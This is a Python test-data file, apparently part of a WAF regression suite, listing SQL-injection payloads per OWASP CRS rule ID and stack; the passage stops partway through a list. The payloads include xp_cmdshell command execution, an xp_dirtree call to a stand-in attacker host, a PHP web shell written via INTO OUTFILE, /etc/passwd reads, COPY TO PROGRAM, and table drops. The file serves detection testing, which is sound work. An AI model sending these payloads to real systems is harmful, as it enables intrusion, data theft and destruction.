"""Blind positive tests for the SQL-injection detection titles of CRS 3.3.4 (request rules at paranoia levels 1
and 2) and the SQLi titles CRS 4.x added at levels 1-2, written as a rule author who exploits real stacks:
every payload is written for one named application stack and carried the way that stack takes its parameters.

Angle: for each detection title, the canonical attack the title names, then one payload per alternative of the
title's family (keywords, functions, operators, comment forms, dialects: MySQL, MSSQL, PostgreSQL, Oracle,
SQLite, DB2/Access, MongoDB), 8 to 12 per title. Each payload names its stack (the first element of its tuple):
PHP (WordPress, Laravel, Drupal: ``a[]=``, ``a[b]=`` array parameters, ``name[0 ...]`` keys, XML-RPC),
Java (Spring, Struts, Tomcat: ``;jsessionid`` and matrix parameters, dotted bean properties, XML bodies),
.NET (classic ASP.NET WebForms on IIS: ``%uXXXX`` query encoding, ``__VIEWSTATE`` forms, SOAP bodies;
ASP.NET Core: dotted model binding), Node (Express: ``qs`` nested objects, nested JSON, Mongo operators in keys),
Python (Django, Flask: repeated form and query lists, JSON lists), Ruby (Rails: ``user[name]`` parameters),
Go and CGI scripts. Family: sqli only; one sub-family per title (kebab-case from the title; the six titles that
read only "SQL Injection Attack" carry their rule id in the sub-family name).

Placements: each payload is sent twice. Once to our real routes (query of /api/users, form of
/admin/users/search with csrf_token, JSON of /api/users, cookie, User-Agent, Referer, a stack's own header,
a parameter name, an XML body, a multipart field or filename, the URL path), rotating; once the way a WAF
regression suite sends it, to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names, as a query string, form, JSON or XML body, a
raw form-typed body that is not key=value, or in the User-Agent, Referer, a custom header or a cookie
(placements prefixed "rs-"). Payloads shaped as whole query strings (Mongo operators in keys, split login
queries) or whole JSON documents go only to query/form or JSON placements.

Benign: Slack messages and bios (chat_and_bio), documentation links and admin-search prose (links_and_prose),
site searches, people's names and addresses, ordinary browser headers and cookies, carrying the same words
(select, union, sleep, benchmark, match, merge, execute, shutdown, delay, drop, having, exists, apostrophes,
``--``, ``#``, hex colours and addresses, large integers, backticks) as people really type them.

Authorship and independence: written from general knowledge of SQL injection and of these stacks, and from the
rule titles alone; no rule, engine source, ruleset regression test, other blind set or public payload list was
read. Measured once through the real stack on unchanged code; payloads were not changed after measuring. The
set is deterministic (no clock, no randomness).
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundrednineteenth"

# A title: (rule id, sub-family, [(stack, payload)]). A stack ending in "-qs" carries a whole query string
# (key=value pairs, already URL-safe); one ending in "-doc" a whole JSON document.
Entry = tuple[str, str]
TITLES: list[tuple[int, str, list[Entry]]] = [
    (942100, "sqli-libinjection", [
        ("wp", "1' OR '1'='1"),                                                   # WordPress ?s= search, MySQL
        ("laravel", "-1 UNION SELECT 1,user_login,user_pass FROM wp_users-- -"),  # Laravel filter[name], MySQL
        ("aspnet", "1; DROP TABLE Users--"),                                      # WebForms, MSSQL stacked
        ("spring", "1' AND 1=(SELECT COUNT(*) FROM all_users)--"),                # Spring + Oracle
        ("django", "1' AND 1=CAST((SELECT version()) AS int)--"),                 # Django raw(), Postgres
        ("express", "admin'-- "),                                                 # Express + mysql2
        ("rails", "') OR 1=1--"),                                                 # Rails where("name = '#{}'")
        ("go", "1 OR 1=1"),                                                       # Go database/sql, SQLite
        ("cgi", "\" OR \"\"=\""),                                                 # Perl CGI, DBI
        ("aspnetcore", "1) ORDER BY 3--"),                                        # ASP.NET Core FromSqlRaw
    ]),
    (942140, "sqli-common-db-names", [
        ("wp", "1 UNION SELECT table_name FROM information_schema.tables"),       # WordPress, MySQL
        ("laravel", "1 UNION SELECT user,authentication_string FROM mysql.user"),  # Laravel, MySQL 8
        ("aspnet", "1;SELECT name FROM master..sysdatabases--"),                  # WebForms, MSSQL
        ("aspnetcore", "1 UNION SELECT name FROM msdb.dbo.backupset--"),          # ASP.NET Core, MSSQL
        ("aspnet", "'; SELECT * INTO #t FROM tempdb.sys.objects--"),              # WebForms, MSSQL tempdb
        ("django", "1 UNION SELECT usename,passwd FROM pg_catalog.pg_shadow--"),  # Django, Postgres
        ("rails", "1 UNION SELECT tablename FROM pg_catalog.pg_tables"),          # Rails, Postgres
        ("go", "1 UNION SELECT sql FROM sqlite_master--"),                        # Go, SQLite
        ("struts", "1 UNION SELECT tabname FROM sysibm.systables"),               # Struts, DB2
        ("cgi", "1 UNION SELECT Name FROM MSysObjects"),                          # classic CGI, MS Access
        ("aspnet", "1; SELECT * FROM Northwind.dbo.Customers--"),                 # WebForms, MSSQL sample DB
    ]),
    (942160, "sqli-sleep-benchmark", [
        ("wp", "1 AND SLEEP(5)"),                                                 # WordPress, MySQL
        ("laravel", "1' AND BENCHMARK(5000000,MD5(1))-- -"),                      # Laravel, MySQL
        ("express", "1 OR sleep(10)#"),                                           # Express + mysql
        ("flask", "(SELECT * FROM (SELECT(SLEEP(5)))a)"),                         # Flask + PyMySQL
        ("tomcat", "1' AND sleep (5)='"),                                         # Tomcat JSP, MySQL
        ("rails", "IF(1=1,SLEEP(5),0)"),                                          # Rails + mysql2
        ("aspnetcore", "benchmark(10000000,sha1('x'))"),                          # ASP.NET Core + MySqlConnector
        ("go", "sleep(5)"),                                                       # Go + go-sql-driver/mysql
        ("cgi", "1'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z"),                    # CGI, MySQL
        ("drupal", "SLEEP/**/(5)"),                                               # Drupal 7, MySQL
    ]),
    (942170, "sqli-conditional-sleep-benchmark", [
        ("wp", "1 AND IF(1=1,SLEEP(5),0)"),                                       # WordPress, MySQL
        ("laravel", "SELECT IF(SUBSTRING(user(),1,1)='r',BENCHMARK(5000000,MD5('a')),null)"),  # Laravel
        ("express", "1;SELECT IF((SELECT COUNT(*) FROM users)>0,SLEEP(3),0)"),    # Express, multipleStatements
        ("django", "' OR (SELECT CASE WHEN (1=1) THEN SLEEP(5) ELSE 0 END)-- "),  # Django + MySQL
        ("spring", "1) AND (SELECT 1 FROM (SELECT SLEEP(5))x) AND (1=1"),         # Spring JdbcTemplate, MySQL
        ("rails", "x' UNION SELECT IF(ASCII(MID(database(),1,1))>64,SLEEP(2),1)-- -"),  # Rails, MySQL
        ("aspnetcore", "; select benchmark(1000000,md5(now()))#"),                # ASP.NET Core, MySQL
        ("go", "1 AND (SELECT * FROM (SELECT IF(1,SLEEP(4),0))z)"),               # Go, MySQL
        ("cgi", "\" and if(length(database())>3,sleep(5),1)-- \""),               # CGI, MySQL
        ("drupal", "1;select sleep(5)"),                                          # Drupal, MySQL
    ]),
    (942190, "sqli-mssql-code-exec", [
        ("aspnet", "'; EXEC master..xp_cmdshell 'whoami'--"),                     # WebForms, MSSQL
        ("aspnet", "1;EXEC sp_configure 'show advanced options',1;RECONFIGURE--"),  # WebForms, MSSQL
        ("aspnetcore", "'; exec xp_dirtree '\\\\attacker.example\\x'--"),         # ASP.NET Core, MSSQL
        ("aspnet", "1; DECLARE @o INT; EXEC sp_OACreate 'WScript.Shell', @o OUT--"),  # WebForms, MSSQL
        ("tomcat", "1 UNION SELECT @@version--"),                                 # Tomcat + jTDS, MSSQL
        ("express", "';EXEC xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft\\MSSQLServer','x'--"),  # tedious
        ("flask", "1; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.9;uid=sa','select 1')--"),  # pyodbc
        ("laravel", "'; exec('sel'+'ect 1')--"),                                  # Laravel + sqlsrv
        ("go", "1;EXECUTE sp_executesql N'SELECT name FROM sys.databases'--"),    # Go + go-mssqldb
        ("cgi", "' union select name from sysobjects where xtype='U'--"),         # CGI, MSSQL
        ("aspnet", "'; EXEC master.dbo.sp_makewebtask 'c:\\inetpub\\wwwroot\\x.html','select 1'--"),  # MSSQL 2000
    ]),
    (942220, "sqli-integer-overflow", [
        ("wp", "2.2250738585072011e-308"),                                        # PHP strtod hang
        ("spring", "2.2250738585072012e-308"),                                    # Java Double.parseDouble hang
        ("cgi", "3.0.00738585072007e-308"),                                       # the "magic number"
        ("aspnet", "4294967296"),                                                 # WebForms int parse
        ("go", "18446744073709551616"),                                           # Go strconv.ParseUint overflow
        ("express", "9223372036854775808"),                                       # Node BigInt column id
        ("django", "2147483648"),                                                 # Django IntegerField
        ("rails", "-2147483649"),                                                 # Rails integer column
        ("laravel", "4294967295"),                                                # Laravel unsigned int
        ("struts", "-9223372036854775809"),                                       # Struts Long conversion
        ("aspnetcore", "2147483647"),                                             # ASP.NET Core int binder
    ]),
    (942230, "sqli-conditional", [
        ("wp", "1 AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)=1"),                    # WordPress, MySQL
        ("laravel", "1 AND IF(ASCII(SUBSTR(user(),1,1))>100,1,0)"),               # Laravel, MySQL
        ("aspnet", "1 AND IIF(SUBSTRING(@@version,1,1)='M',1,1/0)=1"),            # WebForms, MSSQL 2012+
        ("spring", "1 AND 1=(CASE WHEN (SELECT 1 FROM dual)=1 THEN 1 ELSE TO_NUMBER('x') END)"),  # Oracle
        ("struts", "' AND DECODE(SUBSTR(USER,1,1),'S',1,0)=1--"),                 # Struts, Oracle
        ("django", "1 AND (SELECT CASE WHEN current_user='postgres' THEN 1 END) IS NULL"),  # Django, Postgres
        ("rails", "id) ORDER BY (CASE WHEN 1=1 THEN name ELSE email END"),        # Rails order() injection
        ("express", "1 OR IFNULL(NULL,1)=1"),                                     # Express, MySQL
        ("go", "1 AND (SELECT CASE WHEN sqlite_version() LIKE '3%' THEN 1 ELSE 0 END)=1"),  # Go, SQLite
        ("cgi", "1' and if(1=1,1,0)='1"),                                         # CGI, MySQL
        ("aspnetcore", "1 and nullif(1,2)=1--"),                                  # ASP.NET Core, MSSQL
    ]),
    (942240, "sqli-charset-switch-mssql-dos", [
        ("wp", "1; ALTER TABLE wp_users CONVERT TO CHARACTER SET latin1--"),      # WordPress, MySQL
        ("laravel", "1'; SET NAMES gbk-- -"),                                     # Laravel, MySQL
        ("express", "1;ALTER DATABASE app CHARACTER SET utf8mb4"),                # Express, MySQL
        ("flask", "1;SET CHARACTER SET big5;--"),                                 # Flask + PyMySQL
        ("rails", "x' COLLATE latin1_general_ci='x"),                             # Rails + mysql2
        ("aspnet", "'; WAITFOR TIME '23:59:59'--"),                               # WebForms, MSSQL
        ("aspnetcore", "1\";waitfor time \"23:00\"--"),                           # MSSQL, QUOTED_IDENTIFIER OFF
        ("aspnet", "'; x: GOTO x--"),                                             # WebForms, MSSQL endless loop
        ("go", "1;WHILE 1=1 BEGIN SELECT 1 END--"),                               # Go + go-mssqldb
        ("spring", "1; ALTER TABLE accounts MODIFY name VARCHAR(20) CHARACTER SET ascii"),  # Spring, MySQL
        ("cgi", "1;SET NAMES 'sjis'"),                                            # CGI, MySQL
    ]),
    (942250, "sqli-match-against-merge-execute-immediate", [
        ("wp", "1' AND MATCH(post_title) AGAINST('+a*' IN BOOLEAN MODE)-- -"),    # WordPress, MySQL
        ("laravel", "x') AGAINST ('x' WITH QUERY EXPANSION) OR 1=1-- -"),         # Laravel whereFullText
        ("express", "1 AND MATCH (title,body) AGAINST ('database')"),             # Express, MySQL
        ("aspnet", "'; MERGE INTO Users AS t USING (SELECT 1 AS id) AS s ON t.id=s.id "
                   "WHEN MATCHED THEN UPDATE SET role='admin';--"),               # WebForms, MSSQL
        ("spring", "'; MERGE INTO accounts a USING dual ON (a.id=1) WHEN MATCHED THEN UPDATE SET a.balance=1e9--"),
        ("struts", "'; BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO scott'; END;--"),    # Struts, Oracle PL/SQL
        ("django", "1; BEGIN EXECUTE IMMEDIATE 'DROP TABLE audit_log'; END;"),    # Django + cx_Oracle
        ("tomcat", "execute immediate 'select 1 from dual'"),                     # Tomcat, Oracle
        ("go", "1;MERGE users USING staging ON 1=1 WHEN MATCHED THEN DELETE;--"),  # Go, MSSQL
        ("cgi", "match(name) against('admin')"),                                  # CGI, MySQL
        ("aspnetcore", "1;merge into t using s on 1=1 when not matched then insert values(1);--"),  # MSSQL
    ]),
    (942270, "sqli-basic-union-select-from", [
        ("wp", "1 UNION SELECT user_login FROM wp_users"),                        # WordPress, MySQL
        ("laravel", "-1' union all select 1,2,group_concat(table_name) from information_schema.tables-- -"),
        ("spring", "' UNION SELECT banner FROM v$version--"),                     # Spring, Oracle
        ("struts", "' union select null,null from dual--"),                       # Struts, Oracle
        ("aspnet", "0 UNION SELECT TOP 1 name FROM sys.objects--"),               # WebForms, MSSQL
        ("django", "1 UNION SELECT usename FROM pg_user--"),                      # Django, Postgres
        ("express", "1 UNION DISTINCT SELECT email FROM users"),                  # Express, MySQL
        ("rails", "1) UNION SELECT encrypted_password FROM users--"),             # Rails (Devise), Postgres
        ("go", "1 union select name from sqlite_master"),                         # Go, SQLite
        ("cgi", "1 UNION/**/SELECT login/**/FROM accounts"),                      # CGI, MySQL
        ("aspnetcore", "1 UNION ALL SELECT CHAR(65) FROM master..sysdatabases"),  # ASP.NET Core, MSSQL
    ]),
    (942280, "sqli-pg-sleep-waitfor-shutdown", [
        ("django", "1; SELECT pg_sleep(5)--"),                                    # Django, Postgres
        ("rails", "1 AND 1=(SELECT 1 FROM pg_sleep(5))"),                         # Rails, Postgres
        ("flask", "'||pg_sleep(10)||'"),                                          # Flask + psycopg, Postgres
        ("aspnet", "'; WAITFOR DELAY '0:0:5'--"),                                 # WebForms, MSSQL
        ("aspnetcore", "1 WAITFOR DELAY '00:00:10'"),                             # ASP.NET Core, MSSQL
        ("express", "';IF(1=1) WAITFOR DELAY '0:0:5'--"),                         # Express + tedious
        ("aspnet", "'; SHUTDOWN WITH NOWAIT;--"),                                 # WebForms, MSSQL
        ("go", "1;shutdown--"),                                                   # Go, MSSQL
        ("spring", "1;select pg_sleep_for('5 seconds')--"),                       # Spring, Postgres
        ("laravel", "1 AND (SELECT 1 FROM pg_sleep_until(now()+interval '5 s')) IS NULL"),  # Laravel, Postgres
        ("cgi", "1;waitfor delay '0:0:3';--"),                                    # CGI, MSSQL
    ]),
    (942290, "sqli-mongodb", [
        ("express-qs", "login[$ne]=x&pin[$ne]=x"),                                # Express qs: operator objects
        ("laravel-qs", "user[$gt]=&token[$gt]="),                                 # PHP arrays into MongoDB driver
        ("express-doc", '{"username": {"$ne": null}, "pin": {"$ne": null}}'),     # Express JSON body
        ("express-doc", '{"$where": "sleep(5000) || true"}'),                     # Express, $where JS
        ("flask-doc", '{"name": {"$regex": "^a.*"}}'),                            # Flask + pymongo
        ("rails-qs", "user[email][$exists]=true"),                                # Rails + Mongoid
        ("go-doc", '{"role": {"$in": ["admin", "root"]}}'),                       # Go mongo-driver
        ("express", "'; return db.users.find(); var x='"),                        # Express, $where string concat
        ("express-doc", '{"$or": [{"a": 1}, {"b": {"$gt": ""}}]}'),              # Express JSON body
        ("wp-qs", "id[$nin][]=0"),                                                # PHP arrays, MongoDB
        ("express-doc", '{"age": {"$elemMatch": {"$gte": 0}}, "tags": {"$size": 0}}'),  # Express JSON body
    ]),
    (942320, "sqli-stored-procedure-function", [
        ("wp", "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),  # WordPress, MySQL 5
        ("laravel", "1; CREATE PROCEDURE p() BEGIN SELECT * FROM users; END"),    # Laravel, MySQL
        ("express", "1; DROP FUNCTION IF EXISTS sys_exec--"),                     # Express, MySQL
        ("django", "1; CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6','system' "
                   "LANGUAGE C STRICT--"),                                        # Django, Postgres
        ("rails", "1; SELECT lo_import('/etc/passwd')--"),                        # Rails, Postgres
        ("flask", "'; DECLARE c CURSOR FOR SELECT * FROM users--"),               # Flask, Postgres
        ("spring", "1;SELECT pg_read_file('/etc/passwd',0,200)--"),               # Spring, Postgres
        ("go", "1; CREATE FUNCTION f() RETURNS void AS $$ COPY t TO PROGRAM 'id' $$ LANGUAGE sql--"),  # Postgres
        ("aspnet", "'; DECLARE @q NVARCHAR(99) SET @q='SELECT 1' EXEC(@q)--"),    # WebForms, MSSQL
        ("cgi", "1 AND user() REGEXP '^root'"),                                   # CGI, MySQL
        ("drupal", "' AND name SOUNDS LIKE 'admin'-- "),                          # Drupal, MySQL
    ]),
    (942350, "sqli-mysql-udf-data-manipulation", [
        ("wp", "1; CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'--"),  # WordPress, MySQL
        ("laravel", "1 UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/x.php'"),
        ("express", "1 UNION SELECT 0x4d5a INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'"),  # Express, MySQL
        ("django", "1; DROP TABLE auth_user;--"),                                 # Django
        ("rails", "'; UPDATE users SET admin=true WHERE id=1;--"),                # Rails, Postgres
        ("spring", "1; INSERT INTO users(name,role) VALUES('x','admin');--"),     # Spring
        ("aspnet", "'; DELETE FROM Orders;--"),                                   # WebForms, MSSQL
        ("go", "1; ALTER TABLE users ADD COLUMN pwned int;--"),                   # Go
        ("cgi", "1;TRUNCATE TABLE logs;--"),                                      # CGI, MySQL
        ("drupal", "1; RENAME TABLE users TO old_users--"),                       # Drupal, MySQL
        ("express", "1 AND LOAD_FILE('/etc/passwd')"),                            # Express, MySQL
    ]),
    (942360, "sqli-concatenated-basic-sqllfi", [
        ("wp", "1' AND LOAD_FILE('/etc/passwd')-- -"),                            # WordPress, MySQL
        ("laravel", "' UNION SELECT LOAD_FILE(0x2f6574632f706173737764)-- -"),    # Laravel, MySQL
        ("express", "1;SELECT * FROM users"),                                     # Express, multipleStatements
        ("spring", "' || (SELECT user FROM dual) || '"),                          # Spring, Oracle
        ("django", "'||(SELECT pg_read_file('/etc/passwd'))||'"),                 # Django, Postgres
        ("rails", "x'; SELECT 1 --"),                                             # Rails, Postgres
        ("aspnet", "' + (SELECT TOP 1 name FROM sysobjects) + '"),                # WebForms, MSSQL
        ("go", "'||(SELECT sqlite_version())||'"),                                # Go, SQLite
        ("cgi", "1 AND CONCAT('a',(SELECT user()))='a'"),                         # CGI, MySQL
        ("drupal", "1 UNION SELECT CONCAT_WS(0x3a,user,authentication_string) FROM mysql.user"),  # Drupal
        ("struts", "1 as foo from dual union select 1 from dual"),                # Struts, Oracle
    ]),
    (942500, "sqli-mysql-inline-comment", [
        ("wp", "1 /*!UNION*/ /*!SELECT*/ 1,2,3"),                                 # WordPress, MySQL
        ("laravel", "1/*!50000UNION*//*!50000SELECT*/user()"),                    # Laravel, MySQL
        ("express", "/*!32302 1/0, */ 1 FROM dual"),                              # Express, MySQL
        ("flask", "1 /*!AND*/ 1=1"),                                              # Flask + PyMySQL
        ("rails", "'/*!*/OR/*!*/'1'='1"),                                         # Rails + mysql2
        ("spring", "1/*!12345UNION SELECT*/ 1"),                                  # Spring, MySQL
        ("aspnetcore", "/*!SLEEP(5)*/"),                                          # ASP.NET Core, MySQL
        ("go", "1 /*!40000 OR 1=1*/"),                                            # Go, MySQL
        ("cgi", "1/*!or*/1"),                                                     # CGI, MySQL
        ("drupal", "admin'/*!80000 OR '1'='1'*/-- -"),                            # Drupal, MySQL 8
    ]),
    (942110, "sqli-common-injection-testing", [
        ("wp", "'"),                                                              # WordPress ?s=
        ("laravel", "1'"),                                                        # Laravel
        ("express", "\""),                                                        # Express
        ("aspnet", "';"),                                                         # WebForms
        ("spring", "')"),                                                         # Spring
        ("django", "''"),                                                         # Django
        ("rails", "admin'"),                                                      # Rails
        ("go", "1\""),                                                            # Go
        ("cgi", "`"),                                                             # CGI
        ("aspnetcore", "'--"),                                                    # ASP.NET Core
        ("drupal", ";'"),                                                         # Drupal
    ]),
    (942120, "sqli-sql-operator", [
        ("wp", "1 RLIKE (SELECT 1)"),                                             # WordPress, MySQL
        ("laravel", "1 XOR 1"),                                                   # Laravel, MySQL
        ("express", "1 DIV 0"),                                                   # Express, MySQL
        ("django", "x' OR username ~* 'adm'-- "),                                 # Django, Postgres regex
        ("go", "x' OR name GLOB 'a*'--"),                                         # Go, SQLite
        ("rails", "1 OR 1 IS NOT NULL"),                                          # Rails
        ("aspnet", "1 OR 1 NOT BETWEEN 0 AND 0"),                                 # WebForms, MSSQL
        ("spring", "x' OR 'a' NOT LIKE 'b"),                                      # Spring
        ("cgi", "1 <=> 1"),                                                       # CGI, MySQL null-safe equal
        ("drupal", "1' REGEXP '^a"),                                              # Drupal, MySQL
        ("express", "x' SOUNDS LIKE 'x"),                                         # Express, MySQL
    ]),
    (942130, "sqli-tautology", [
        ("wp", "1' OR '1'='1"),                                                   # WordPress
        ("laravel", "1 OR 1=1"),                                                  # Laravel
        ("express", "x' OR 'a'='a"),                                              # Express
        ("aspnet", "1 OR 2>1"),                                                   # WebForms
        ("spring", "' OR 'x'<>'y"),                                               # Spring
        ("flask", "1 OR 3<4"),                                                    # Flask
        ("rails", "' OR 1 != 2--"),                                               # Rails
        ("go", "1 OR 'ab' LIKE 'ab'"),                                            # Go
        ("cgi", "x\" OR \"a\"=\"a"),                                              # CGI
        ("aspnetcore", "admin' OR 5=5--"),                                        # ASP.NET Core
        ("drupal", "-1 || 7=7"),                                                  # Drupal, MySQL ||
    ]),
    (942150, "sqli-sql-function-names", [
        ("wp", "1 AND ascii(substring(user(),1,1))>64"),                          # WordPress, MySQL
        ("laravel", "concat(0x61,database())"),                                   # Laravel, MySQL
        ("express", "x' AND length(database())>1-- -"),                           # Express, MySQL
        ("aspnet", "1 AND unicode(db_name())>0"),                                 # WebForms, MSSQL
        ("spring", "' AND utl_inaddr.get_host_name((SELECT user FROM dual)) IS NULL--"),  # Spring, Oracle
        ("django", "1 AND chr(65)='A'"),                                          # Django, Postgres
        ("rails", "1 AND md5('x') IS NOT NULL"),                                  # Rails, Postgres
        ("go", "1 AND hex(randomblob(8))<>''"),                                   # Go, SQLite
        ("cgi", "1 and ord(mid(version(),1,1))>51"),                              # CGI, MySQL
        ("aspnetcore", "1 and charindex('a',@@version)>0"),                       # ASP.NET Core, MSSQL
        ("struts", "1 AND extractvalue(1,concat(0x7e,user()))"),                  # Struts, MySQL
    ]),
    (942180, "sqli-auth-bypass-1-of-3", [
        ("wp", "admin'--"),                                                       # WordPress login plugin
        ("laravel", "admin' #"),                                                  # Laravel, MySQL
        ("express", "' or ''='"),                                                 # Express
        ("django", "'='"),                                                        # Django raw()
        ("aspnet", "') or ('a'='a"),                                              # WebForms, MSSQL
        ("spring", "admin'/*"),                                                   # Spring
        ("rails", "\" or \"\"=\""),                                               # Rails
        ("go", "1' or '1'='1'--"),                                                # Go
        ("cgi", "'or 1#"),                                                        # CGI, MySQL
        ("aspnetcore", "admin')--"),                                              # ASP.NET Core
        ("drupal", "'or'1'like'1"),                                               # Drupal, MySQL
    ]),
    (942200, "sqli-comment-space-obfuscation-backtick", [
        ("wp", "1/**/OR/**/1=1"),                                                 # WordPress, MySQL
        ("laravel", "'/**/UNION/**/SELECT/**/1,2-- -"),                           # Laravel, MySQL
        ("express", "1)/**/AND/**/(1=1"),                                         # Express, MySQL
        ("django", "1\tOR\t1=1"),                                                 # Django, tab separators
        ("rails", "'\nOR\n'1'='1"),                                               # Rails, newline separators
        ("spring", "x` OR 1=1-- "),                                               # Spring, backtick-quoted column
        ("aspnetcore", "`users`.`id`=1 OR 1#"),                                   # ASP.NET Core + MySqlConnector
        ("go", "1/*x*/UNION/*x*/ALL/*x*/SELECT/*x*/2"),                           # Go, MySQL
        ("cgi", "1'/*comment*/or/*comment*/'1'='1"),                              # CGI, MySQL
        ("drupal", "title`desc,(select(sleep(2)))#"),                             # Drupal ORDER BY column
    ]),
    (942210, "sqli-chained-1-of-2", [
        ("wp", "1; SELECT * FROM wp_options"),                                    # WordPress, MySQL
        ("laravel", "'; INSERT INTO users VALUES(99,'x')-- -"),                   # Laravel, MySQL
        ("express", "1); DROP TABLE sessions;--"),                                # Express
        ("django", "'; UPDATE auth_user SET is_superuser=1-- "),                  # Django, Postgres
        ("rails", "1 || (SELECT 1)"),                                             # Rails, Postgres
        ("aspnet", "1'; EXEC sp_who--"),                                          # WebForms, MSSQL
        ("spring", "1 && (SELECT 1 FROM dual)"),                                  # Spring, MySQL
        ("go", "x'; DELETE FROM events;--"),                                      # Go, SQLite
        ("cgi", "1;SHOW TABLES"),                                                 # CGI, MySQL
        ("aspnetcore", "';DECLARE @x int--"),                                     # ASP.NET Core, MSSQL
    ]),
    (942260, "sqli-auth-bypass-2-of-3", [
        ("wp", "'-'"),                                                            # WordPress, MySQL
        ("laravel", "' '"),                                                       # Laravel
        ("express", "'&'"),                                                       # Express
        ("django", "'^'"),                                                        # Django
        ("aspnet", "'*'"),                                                        # WebForms
        ("spring", "'||'"),                                                       # Spring, Oracle
        ("rails", "' or 1 in (1)-- "),                                            # Rails
        ("go", "\"-\""),                                                          # Go
        ("cgi", "'|'"),                                                           # CGI
        ("drupal", "' or 'a' like 'a"),                                           # Drupal
    ]),
    (942300, "sqli-mysql-comment-condition-char", [
        ("wp", "1 AND CHAR(97)=0x61#"),                                           # WordPress, MySQL
        ("express", "x' OR 1=1#"),                                                # Express, MySQL
        ("aspnet", "1 AND CHAR(65)+CHAR(66)='AB'--"),                             # WebForms, MSSQL
        ("django", "1 AND CHR(65)||CHR(66)='AB'"),                                # Django, Postgres
        ("spring", "' AND CHR(65)='A"),                                           # Spring, Oracle
        ("rails", "1)) OR ((1=1"),                                                # Rails
        ("go", "1 AND CASE WHEN 1 THEN 1 END"),                                   # Go, SQLite
        ("cgi", "'/**/or/**/1#"),                                                 # CGI, MySQL
        ("laravel", "1 or 1=1 ) #"),                                              # Laravel, MySQL
        ("aspnetcore", "1; select nchar(65)--"),                                  # ASP.NET Core, MSSQL
    ]),
    (942310, "sqli-chained-2-of-2", [
        ("wp", "'); SELECT 1#"),                                                  # WordPress, MySQL
        ("express", "\"); DROP TABLE t--"),                                       # Express
        ("aspnet", "'; BEGIN TRAN; DELETE FROM Logs; COMMIT--"),                  # WebForms, MSSQL
        ("struts", "1)) union select 1,2 from dual--"),                           # Struts, Oracle
        ("django", "1; COMMIT; SELECT 1"),                                        # Django, Postgres
        ("rails", "'))); SELECT pg_sleep(1)--"),                                  # Rails, Postgres
        ("go", "1); BEGIN TRANSACTION;--"),                                       # Go, SQLite
        ("cgi", "\");IF 1=1 SELECT 1--"),                                         # CGI, MSSQL
        ("aspnetcore", "1;ROLLBACK--"),                                           # ASP.NET Core, MSSQL
        ("laravel", "1'))) OR 1-- -"),                                            # Laravel, MySQL
    ]),
    (942330, "sqli-classic-probing-1-of-3", [
        ("wp", "' or 1--"),                                                       # WordPress
        ("express", "\" or 1--"),                                                 # Express
        ("aspnet", "' and 1=0--"),                                                # WebForms
        ("spring", "1' and 'a"),                                                  # Spring
        ("flask", "' xor 1"),                                                     # Flask, MySQL
        ("rails", "x\" and \"1"),                                                 # Rails
        ("go", "1' or true--"),                                                   # Go
        ("cgi", "' || '1"),                                                       # CGI
        ("laravel", "' OR 1 /*"),                                                 # Laravel
        ("aspnetcore", "'; or 1"),                                                # ASP.NET Core
    ]),
    (942340, "sqli-auth-bypass-3-of-3", [
        ("wp", "' OR 'b' BETWEEN 'a' AND 'c"),                                    # WordPress
        ("express", "' OR 1 IN (1)#"),                                            # Express, MySQL
        ("aspnet", "') OR 1 IN (SELECT 1)--"),                                    # WebForms, MSSQL
        ("spring", "x' OR 'x' IN ('x')--"),                                       # Spring
        ("django", "' OR username IS NOT NULL--"),                                # Django
        ("rails", "1' OR id BETWEEN 0 AND 999999--"),                             # Rails
        ("go", "' OR 1 NOT IN (2)--"),                                            # Go
        ("cgi", "\" OR isnull(1/0) #"),                                           # CGI, MySQL
        ("laravel", "admin' or 'x' regexp 'x"),                                   # Laravel, MySQL
        ("aspnetcore", "' OR '1'<>'2"),                                           # ASP.NET Core
    ]),
    (942361, "sqli-alter-or-union", [
        ("wp", "1 UNION SELECT 1"),                                               # WordPress
        ("laravel", "-1 UNION ALL SELECT NULL,NULL"),                             # Laravel
        ("express", "1 union(select 1)"),                                         # Express, MySQL
        ("django", "1 UNION SELECT NULL--"),                                      # Django
        ("rails", "1; ALTER TABLE users ADD admin boolean"),                      # Rails, Postgres
        ("spring", "1 UNION SELECT NULL FROM dual"),                              # Spring, Oracle
        ("aspnet", "1; ALTER LOGIN sa ENABLE--"),                                 # WebForms, MSSQL
        ("go", "x' UNION VALUES(1)--"),                                           # Go, SQLite
        ("cgi", "1 UnIoN SeLeCt 1"),                                              # CGI
        ("aspnetcore", "1; ALTER DATABASE app SET SINGLE_USER--"),                # ASP.NET Core, MSSQL
    ]),
    (942370, "sqli-classic-probing-2-of-3", [
        ("wp", "' * '"),                                                          # WordPress
        ("express", "1' + '1"),                                                   # Express
        ("aspnet", "' + (SELECT 1) + '"),                                         # WebForms, MSSQL
        ("spring", "'||'a"),                                                      # Spring, Oracle
        ("django", "\"*\""),                                                      # Django
        ("rails", "'<>'"),                                                        # Rails
        ("go", "\"/\""),                                                          # Go
        ("cgi", "1' - '0"),                                                       # CGI
        ("laravel", "\"' or \""),                                                 # Laravel
        ("aspnetcore", "'%'"),                                                    # ASP.NET Core, LIKE
    ]),
    (942380, "sql-injection-attack-942380", [
        ("wp", "1' HAVING 1=1-- -"),                                              # WordPress, MySQL
        ("aspnet", "1 GROUP BY id HAVING 1=1--"),                                 # WebForms, MSSQL
        ("express", "1 AND EXISTS(SELECT * FROM users)"),                         # Express
        ("django", "1 AND NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname='x')"),  # Django, Postgres
        ("spring", "1' AND EXISTS(SELECT 1 FROM dual WHERE 1=1)--"),              # Spring, Oracle
